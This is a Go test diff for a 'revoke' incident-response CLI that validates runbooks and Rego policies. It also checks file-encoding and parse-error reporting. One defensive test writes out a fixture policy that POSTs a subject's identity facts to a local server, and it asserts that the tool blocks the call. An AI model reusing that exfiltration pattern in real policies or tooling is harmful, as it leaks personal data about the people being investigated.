@@ -2,9 +2,14 @@ package main
 
 import (
 	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"strings"
+	"sync/atomic"
 	"testing"
+	"unicode/utf16"
 )
 
 func TestValidateShippedTree(t *testing.T) {
@@ -54,7 +59,7 @@ func TestValidateReportsEveryProblem(t *testing.T) {
 	if code != 1 {
 		t.Errorf("exit %d, want 1", code)
 	}
-	want := `other.yaml: warning: not a runbook (no top-level steps), environment (no kind: hybrid|cloud), facts file (no subject), sandbox seed or runbook test (*_test.yaml): ignored
+	want := `other.yaml: warning: not a runbook (no top-level steps), environment (no top-level kind), facts file (no subject), sandbox seed or runbook test (*_test.yaml): ignored
 policies/broken.rego:5:1: error: rego_parse_error: unexpected } token
 runbooks/bad.yaml:2:7: error: name "Bad_Name" must be lower-case letters, digits and dashes
 runbooks/bad.yaml:5:11: error: unknown step "ad.disable_acount" (did you mean "ad.disable_account"?)
@@ -125,5 +130,103 @@ func TestValidateDefaultsAndPaths(t *testing.T) {
 	_, stderr, code := runCLI(t, "validate", "nosuchdir")
 	if code != 2 || !strings.Contains(stderr, "revoke: validate: stat nosuchdir: no such file or directory") {
 		t.Errorf("missing path: exit %d, %q", code, stderr)
+	}
+}
+
+// A policy that POSTs the subject's facts to a server is refused at its
+// call, by validate and by plan alike, and the server hears nothing.
+func TestPolicyCannotSendFactsAnywhere(t *testing.T) {
+	var hits atomic.Int64
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		hits.Add(1)
+		fmt.Fprint(w, `{}`)
+	}))
+	defer srv.Close()
+	dir := writeFiles(t, map[string]string{
+		"policies/exfil.rego": "package revoke\n\nwarn contains \"sent\" if {\n\thttp.send({\"method\": \"POST\", \"url\": \"" +
+			srv.URL + "\", \"body\": input.subject})\n}\n",
+	})
+	t.Chdir(dir)
+	want := "policies/exfil.rego:4:2: error: rego_type_error: http.send is not available to revoke policies: they reach no network and no host state, and decide the same way every time (docs/policies.md lists the builtins left out)\n"
+
+	stdout, _, code := runCLI(t, "validate", "policies")
+	if code != 1 || !strings.HasPrefix(stdout, want) {
+		t.Errorf("validate: exit %d, stdout:\n%s\nwant it to start:\n%s", code, stdout, want)
+	}
+	_, stderr, code := runCLI(t, "plan", "compromised", "--user", "adele@contoso.com",
+		"--facts", repo+"/examples/facts/hybrid-synced.yaml", "--policies", "policies")
+	if code != 1 || !strings.HasPrefix(stderr, want) {
+		t.Errorf("plan: exit %d, stderr:\n%s\nwant it to start:\n%s", code, stderr, want)
+	}
+	if n := hits.Load(); n != 0 {
+		t.Errorf("the server received %d requests, want none", n)
+	}
+}
+
+// utf16le encodes s as UTF-16 little-endian with a byte-order mark, as
+// Windows PowerShell's > writes it.
+func utf16le(s string) string {
+	var b strings.Builder
+	b.WriteString("\xff\xfe")
+	for _, u := range utf16.Encode([]rune(s)) {
+		b.WriteByte(byte(u))
+		b.WriteByte(byte(u >> 8))
+	}
+	return b.String()
+}
+
+// validate fails on what it cannot read, whatever the format, and only
+// YAML of no known shape is a warning.
+func TestValidateFailsOnWhatItCannotRead(t *testing.T) {
+	dir := writeFiles(t, map[string]string{
+		"broken.json":  "{\"version\": 1, \"name\": \"j\", \"steps\": [\n  {\"id\": \"a\", \"uses\": \"ad.disable_account\"}\n",
+		"flow.yaml":    "{version: 1, name: f, steps: [{id: a, uses: ad.disable_account}\n",
+		"tab.yaml":     "version: 1\nname: t\nsteps:\n  - id: a\n\t  uses: ad.disable_account\n",
+		"onprem.yaml":  "version: 1\nname: e\nkind: on-prem-only\n",
+		"title.yaml":   "version: 1\nname: e\nkind: Hybrid\n",
+		"windows.yaml": utf16le("version: 1\nname: w\nsteps:\n  - id: a\n    uses: ad.disable_acount\n"),
+		"odd.yaml":     "\xff\xfev\x00e\x00r",
+		"policy.rego":  utf16le("package revoke\n\nwarn contains \"from a UTF-16 policy\" if false\n"),
+		"notes.yaml":   "hello: world\n",
+		"data.json":    "{\"hello\": \"world\"}\n",
+	})
+	t.Chdir(dir)
+	stdout, _, code := runCLI(t, "validate", ".")
+	if code != 1 {
+		t.Errorf("exit %d, want 1", code)
+	}
+	want := `broken.json:3:1: error: did not find expected ',' or ']'
+flow.yaml:2:1: error: did not find expected ',' or ']'
+notes.yaml: warning: not a runbook (no top-level steps), environment (no top-level kind), facts file (no subject), sandbox seed or runbook test (*_test.yaml): ignored
+odd.yaml: error: file starts with a UTF-16 byte-order mark but is not UTF-16 (odd length); save it as UTF-8
+onprem.yaml:3:7: error: kind: "on-prem-only" is not one of hybrid, cloud
+tab.yaml:5:1: error: a tab character in the indentation: YAML indents with spaces only
+title.yaml:3:7: error: kind: "Hybrid" is not one of hybrid, cloud
+windows.yaml:5:11: error: unknown step "ad.disable_acount" (did you mean "ad.disable_account"?)
+`
+	lines := strings.SplitAfter(stdout, "\n")
+	if got := strings.Join(lines[:len(lines)-2], ""); got != want {
+		t.Errorf("got:\n%s\nwant:\n%s", got, want)
+	}
+}
+
+// A team's company-wide deny does not fail the built-in runbook tests;
+// the team's own test of it runs and passes.
+func TestValidateTeamDenyLeavesBuiltinTestsPassing(t *testing.T) {
+	dir := writeFiles(t, map[string]string{
+		"policies/ticket.rego": "package revoke\n\ndeny contains \"compromised runs need a ticket\" if {\n" +
+			"\tinput.scenario == \"compromised\"\n\tnot input.request.ticket\n}\n",
+		"runbooks/ticket_test.yaml": `tests:
+  - name: no ticket
+    runbook: compromised
+    environment: {name: contoso, kind: cloud}
+    subject: {ref: lee@contoso.com, entra: {id: x, userPrincipalName: lee@contoso.com, privilegedRoles: []}}
+    expect: {deny: [need a ticket]}
+`,
+	})
+	t.Chdir(dir)
+	stdout, _, code := runCLI(t, "validate", "runbooks", "policies")
+	if code != 0 || !strings.HasSuffix(stdout, "; 0 errors, 0 warnings\n") || strings.Contains(stdout, "error:") {
+		t.Errorf("exit %d:\n%s", code, stdout)
 	}
 }
